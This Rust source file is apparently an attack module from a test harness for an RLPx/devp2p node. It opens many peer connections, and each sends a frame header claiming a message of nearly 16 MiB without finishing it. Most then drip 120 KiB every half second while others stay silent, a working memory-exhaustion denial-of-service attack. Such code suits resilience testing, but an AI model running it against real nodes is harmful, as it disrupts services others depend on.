//! Peers that each begin a message of nearly 16 MiB and never end it: some of them bring what tells its code and no more,
//! the others a piece each half second. What they claim all together is more than any machine has.

use std::{
    future::pending,
    io::{Read, Write},
    net::{Ipv4Addr, TcpStream as StdTcpStream},
    sync::{
        Arc,
        atomic::{AtomicU32, Ordering},
    },
    time::Duration,
};

use devp2p::identity::{Enode, NodeKey};
use interop::{
    Failure, Result,
    flood::{IGNORED, PROTOCOL, V1, attacker, socket},
};
use rand::{RngExt, rand_core::UnwrapErr, rngs::SysRng};
use rlpx::{
    BASE_MESSAGE_COUNT, Capability, CapabilityName, Hello,
    testing::{Role, ScriptedPeer, curve},
};
use tokio::{
    io::AsyncWriteExt,
    net::TcpStream,
    task::JoinSet,
    time::{interval, timeout},
};

use super::{Attack, handshakes::address, ready};

/// The longest message that a node takes, as a header says it: 24 bits, and one byte less than they can.
const CLAIM: [u8; 3] = [0xff, 0xff, 0xfe];
/// What stands behind the length in a header (`rlpx.md`).
const HEADER_DATA: [u8; 3] = [0xc2, 0x80, 0x80];
/// A header and its MAC, and the first block of the body.
const BEGINNING: usize = 16 + 16 + 16;
/// Between two pieces, and their bytes: less than a node wants of who is read while memory is short.
const PAUSE: Duration = Duration::from_millis(500);
static PIECE: [u8; 120 * 1024] = [0x5a; 120 * 1024];
/// Of so many peers one is silent.
const SILENT: usize = 5;
/// Version of the base protocol: payloads are compressed.
const BASE_VERSION: u64 = 5;
/// How long a node may take to say Hello.
const PATIENCE: Duration = Duration::from_secs(5);

/// A peer that has said nothing since its Hello, and how its message begins.
type Joined = (TcpStream, Vec<u8>);

pub(super) async fn run(attack: &Attack, count: u32) -> Result<()> {
    let mut peers: Vec<Joined> = Vec::new();
    for number in 0..count {
        peers.push(join(attacker(number), &attack.target).await?);
    }
    ready()?;
    let pieces = Arc::new(AtomicU32::new(0));
    let (mut dripping, mut silent) = (JoinSet::new(), Vec::new());
    for (number, (mut stream, beginning)) in peers.into_iter().enumerate() {
        stream.write_all(&beginning).await?;
        if number % SILENT == 0 {
            silent.push(stream);
        } else {
            dripping.spawn(drip(stream, Arc::clone(&pieces)));
        }
    }
    println!("{count} peers claim");
    // Those that the node closes are done, the others drip on.
    let _ = timeout(Duration::from_secs(attack.seconds.into()), pending::<()>()).await;
    let mut closed = 0;
    while dripping.try_join_next().is_some() {
        closed += 1;
    }
    let mib = pieces.load(Ordering::Relaxed) as usize * PIECE.len() / (1 << 20);
    println!(
        "{count} peers claimed, {mib} MiB dripped, {closed} closed of {} that drip",
        closed + dripping.len()
    );
    drop(silent);
    Ok(())
}

/// Done when the node has closed it.
async fn drip(mut stream: TcpStream, pieces: Arc<AtomicU32>) {
    let mut times = interval(PAUSE);
    loop {
        times.tick().await;
        if stream.write_all(&PIECE).await.is_err() {
            return;
        }
        pieces.fetch_add(1, Ordering::Relaxed);
    }
}

/// Connects, shakes hands and says Hello, with nothing else done meanwhile.
async fn join(from: Ipv4Addr, target: &Enode) -> Result<Joined> {
    let mut stream = socket(from)?.connect(address(target)?).await?.into_std()?;
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let own = Arc::new(NodeKey::generate(&mut UnwrapErr(SysRng)));
    let rng = &mut UnwrapErr(SysRng);
    let (keys, curve) = ((own.public_key(), target.public_key), &mut curve(Arc::clone(&own), rng.random()));
    let mut peer = ScriptedPeer::connect_over(Role::Dialer, &mut stream, keys, curve, rng.random())?;
    let name = CapabilityName::new(PROTOCOL).map_err(|error| Failure::new(error.to_string()))?;
    let hello = Hello {
        protocol_version: BASE_VERSION,
        client_name: PROTOCOL.to_owned(),
        capabilities: vec![Capability { name, version: V1.version }],
        listen_port: 0,
        public_key: own.public_key(),
    };
    stream.write_all(&peer.hello(&hello))?;
    wait_for_hello(&mut peer, &mut stream)?;
    stream.set_nonblocking(true)?;
    Ok((TcpStream::from_std(stream)?, beginning(&mut peer)?))
}

fn wait_for_hello(peer: &mut ScriptedPeer, stream: &mut StdTcpStream) -> Result<()> {
    let mut bytes = [0; 1_024];
    loop {
        let len = stream.read(&mut bytes)?;
        let read = bytes.get(..len).filter(|read| !read.is_empty());
        let read = read.ok_or_else(|| Failure::new("closed before its Hello"))?;
        let messages = peer.read(read).map_err(|error| Failure::new(error.to_string()))?;
        if !messages.is_empty() {
            return Ok(());
        }
    }
}

/// The header and the first block of the body, which holds the code. What follows may be any bytes: they are under a MAC
/// that never comes.
fn beginning(peer: &mut ScriptedPeer) -> Result<Vec<u8>> {
    let mut header = [0; 16];
    header.iter_mut().zip(CLAIM.into_iter().chain(HEADER_DATA)).for_each(|(byte, said)| *byte = said);
    let code = u8::try_from(BASE_MESSAGE_COUNT + IGNORED).map_err(|error| Failure::new(error.to_string()))?;
    let mut beginning = peer.frame(header, &[code; 16]);
    beginning.truncate(BEGINNING);
    Ok(beginning)
}
